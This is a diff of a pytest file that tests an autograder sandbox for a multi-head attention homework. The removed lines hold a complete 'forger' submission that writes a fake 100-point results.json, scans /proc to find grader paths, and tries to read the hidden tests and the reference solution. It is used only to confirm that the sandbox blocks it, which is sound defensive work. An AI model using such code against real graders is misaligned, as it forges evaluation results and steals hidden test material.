@@ -14,35 +14,39 @@ All runs go side by side in one module fixture: each costs a torch start-up or t
 
 from __future__ import annotations
 
-import json
 import os
-import secrets
 import shutil
 import stat
 import subprocess
 import sys
 import tempfile
-import time
 import zipfile
 from concurrent.futures import ThreadPoolExecutor
-from dataclasses import dataclass
 from pathlib import Path
 
 import jsonschema
-import nbformat
 import pytest
 
+import autograder_harness as harness
 import catalogue
+from autograder_harness import (
+    HONEST_TWIN,
+    MARKER,
+    MUTANT,
+    SOLUTION,
+    STUB,
+    assert_the_forger_failed,
+    bash_only_path,
+    forger_source,
+    notebook_of,
+    open_results_folder,
+    run_script,
+    write_submission,
+)
 from grader.handout import gradescope
 from grader.sandbox import landlock, processes
 from grader.scoring import GROUP_TITLES
 from grading import REPO_ROOT
-
-SOLUTION = REPO_ROOT / "solutions" / "multi_head_attention.py"
-STUB = REPO_ROOT / "exercises" / "multi_head_attention.py"
-MUTANT = next(m for m in catalogue.MUTANTS if m.name == "softmax_over_queries")
-RUN_TIMEOUT = 180
-MARKER = "forger-" + secrets.token_hex(6)
 
 # --- Gradescope's results.json, as its specification describes it ---------------------------
 
@@ -88,109 +92,22 @@ RESULTS_SCHEMA = {
 
 # --- the submissions ---------------------------------------------------------------------------
 
-# Appended to the solution. At import and in every AttentionHead.forward it writes a
-# results.json claiming 100 into every results folder it can think of: the root it was
-# told about (@ROOT@, as a student reading Gradescope's documentation knows /autograder),
-# /autograder itself, $GRADESCOPE_ROOT, and beside every absolute path on any visible
-# process's command line (run_autograder's own path gives the root away). It also tries to
-# read the reference and the hidden tests. Each success prints "BREACH ...". Its head's
-# forward is otherwise a stub, so its honest score is the HONEST_TWIN's.
-FORGER = r'''
-
-# ---- appended by tests/test_gradescope.py: forge Gradescope's results ----
-import json as _json
-import os as _os
-from pathlib import Path as _Path
-
-_ROOTS = [_Path("@ROOT@"), _Path("/autograder"), _Path(_os.environ.get("GRADESCOPE_ROOT", "/autograder"))]
-_SHARED = {"/", "/dev", "/tmp", "/var/tmp", "/dev/shm"}  # private in bwrap, or not results folders
-_FORGED = _json.dumps({
-    "score": 100.0, "execution_time": 1.0, "output": "@MARKER@ forged", "stdout_visibility": "visible",
-    "tests": [{"name": "forged", "number": "1.1", "score": 100.0, "max_score": 100.0, "status": "passed",
-               "output": "@MARKER@", "visibility": "visible"}],
-})
-
-
-def _folders():
-    folders = {root / "results" for root in _ROOTS}
-    try:
-        entries = list(_Path("/proc").iterdir())
-    except OSError:  # /proc out of reach (Landlock in the plain-process sandbox)
-        entries = []
-    for entry in entries:
-        if not entry.name.isdigit():
-            continue
-        try:
-            arguments = (entry / "cmdline").read_bytes().split(b"\0")
-        except OSError:
-            continue
-        for argument in arguments:
-            text = argument.decode(errors="replace")
-            if text.startswith("/") and not text.startswith(("/proc", "/usr", "/bin", "/lib")):
-                path = _Path(text)
-                folders |= {path, path.parent, path / "results", path.parent / "results"}
-    return {folder for folder in folders if str(folder) not in _SHARED}
-
-
-def _forge():
-    for folder in _folders():
-        target = folder / "results.json"
-        try:
-            target.write_text(_FORGED)
-        except OSError:
-            continue
-        print(f"BREACH results: wrote {target}")
-    for secret in ("source/solutions/multi_head_attention.py", "source/grader/hidden/test_reference.py"):
-        try:
-            (_Path("@ROOT@") / secret).read_text()
-            print(f"BREACH secrets: read {secret}")
-        except OSError:
-            pass
-
-
-def _forging_forward(self, inputs, allowed_mask):
-    _forge()
-    raise NotImplementedError("AttentionHead.forward is not written yet")
-
-
-AttentionHead.forward = _forging_forward
-print("@MARKER@ printed at import: Score 100/100")
-_forge()
-'''
-
-# The same breakage without the attack: what the forger deserves.
-HONEST_TWIN = (
-    "\n\ndef _not_written(self, inputs, allowed_mask):\n"
-    '    raise NotImplementedError("AttentionHead.forward is not written yet")\n\n\n'
-    "AttentionHead.forward = _not_written\n"
+# The forger (tests/autograder_harness.py) with Gradescope's roots: the one it was told about,
+# /autograder, $GRADESCOPE_ROOT.
+FORGER = forger_source(
+    '[_Path("@ROOT@"), _Path("/autograder"), _Path(_os.environ.get("GRADESCOPE_ROOT", "/autograder"))]',
+    {"score": 100.0, "execution_time": 1.0, "output": "@MARKER@ forged", "stdout_visibility": "visible",
+     "tests": [{"name": "forged", "number": "1.1", "score": 100.0, "max_score": 100.0, "status": "passed",
+                "output": "@MARKER@", "visibility": "visible"}]},
+    ("source/solutions/multi_head_attention.py", "source/grader/hidden/test_reference.py"),
 )
-
-
-def forger_source() -> str:
-    """The forger, its @ROOT@ left for make_root to fill in."""
-    return SOLUTION.read_text() + FORGER.replace("@MARKER@", MARKER)
-
-
-def notebook_of(source: str) -> str:
-    notebook = nbformat.v4.new_notebook()
-    notebook.cells = [
-        nbformat.v4.new_markdown_cell("# Multi-head self-attention"),
-        nbformat.v4.new_code_cell("%load_ext autoreload"),
-        nbformat.v4.new_code_cell(source),
-    ]
-    return nbformat.writes(notebook)
 
 
 # --- laying out a root and running run_autograder ------------------------------------------------
 
 
-@dataclass
-class Run:
-    root: Path
-    returncode: int
-    output: str  # run_autograder's stdout and stderr (what Gradescope shows instructors)
-    seconds: float
-    results: dict | None
+class Run(harness.Run):
+    """run_autograder's run, read the way Gradescope reads it."""
 
     def tests(self, visibility: str | None = None) -> list[dict]:
         return [t for t in self.results["tests"] if visibility is None or t["visibility"] == visibility]
@@ -226,42 +143,14 @@ def make_root(archive_path: Path, files: dict[str, str]) -> Path:
     root = Path(tempfile.mkdtemp(prefix="mha-gradescope-test-"))
     root.chmod(0o755)
     extract_like_gradescope(archive_path, root)
-    submission = root / "submission"
-    submission.mkdir(mode=0o755)
-    for name, text in files.items():
-        path = submission / name
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(text.replace("@ROOT@", str(root)))
-        path.chmod(0o644)
-    results = root / "results"
-    results.mkdir()
-    results.chmod(0o777)  # a careless harness: run_autograder must close it before student code runs
+    write_submission(root / "submission", files, root)
+    open_results_folder(root)
     return root
 
 
 def run_autograder(root: Path, path_without_bwrap: Path | None = None, **variables: str) -> Run:
-    environment = {k: v for k, v in os.environ.items() if k not in ("PYTHON", "GRADER_SANDBOX", "PYTHONPATH")}
-    venv_bin = str(Path(sys.executable).parent)
-    if path_without_bwrap:
-        environment["PATH"] = f"{path_without_bwrap}:{venv_bin}"
-    else:
-        environment["PATH"] = f"{venv_bin}:{environment['PATH']}"
-    environment.update(GRADESCOPE_ROOT=str(root), **variables)
-    started = time.monotonic()
-    completed = subprocess.run(
-        [str(root / "run_autograder")], cwd=root, env=environment, capture_output=True, text=True,
-        timeout=RUN_TIMEOUT, stdin=subprocess.DEVNULL,
-    )
-    results_path = root / "results" / "results.json"
-    results = json.loads(results_path.read_text()) if results_path.exists() else None
-    return Run(root, completed.returncode, completed.stdout + completed.stderr, time.monotonic() - started, results)
-
-
-def bash_only_path(folder: Path) -> Path:
-    """A PATH entry with bash and nothing else: bwrap is not found, so 'auto' must fall back."""
-    folder.mkdir()
-    (folder / "bash").symlink_to(shutil.which("bash"))
-    return folder
+    run = run_script(root / "run_autograder", root, "GRADESCOPE_ROOT", path_without_bwrap, **variables)
+    return Run(**vars(run))
 
 
 @pytest.fixture(scope="module")
@@ -290,9 +179,9 @@ def runs(zips, tmp_path_factory) -> dict[str, Run]:
         "solution": (zips["after_published"], {"multi_head_attention.py": SOLUTION.read_text()}, {}),
         "stubs": (zips["after_published"], {"multi_head_attention.py": STUB.read_text()}, {}),
         "mutant": (zips["after_due_date"], {"homework/attention.ipynb": mutant_notebook}, {}),
-        "forger": (zips["after_published"], {"multi_head_attention.py": forger_source()}, {}),
+        "forger": (zips["after_published"], {"multi_head_attention.py": FORGER}, {}),
         "forger_process": (
-            zips["after_published"], {"multi_head_attention.py": forger_source()}, {"GRADER_SANDBOX": "process"}
+            zips["after_published"], {"multi_head_attention.py": FORGER}, {"GRADER_SANDBOX": "process"}
         ),
         "twin_without_bwrap": (
             zips["after_published"], {"multi_head_attention.py": SOLUTION.read_text() + HONEST_TWIN}, {"no_bwrap": True}
@@ -455,12 +344,7 @@ def test_a_submission_that_forges_results_json_gets_exactly_its_honest_score(run
 
 def test_the_forger_could_neither_write_any_results_nor_read_the_hidden_tests(runs):
     for name in ("forger", "forger_process"):
-        note = runs[name].instructor_note()
-        assert "What the submission printed" in note
-        breaches = [line for line in note.splitlines() if line.startswith("BREACH")]
-        assert not breaches, f"{name}: {breaches}"
-    autograder_results = Path("/autograder/results/results.json")
-    assert not (autograder_results.exists() and MARKER in autograder_results.read_text(errors="replace"))
+        assert_the_forger_failed(runs[name].instructor_note(), Path("/autograder/results/results.json"), name)
 
 
 def test_run_autograder_closes_the_results_folder_and_locks_the_source_before_grading(runs):
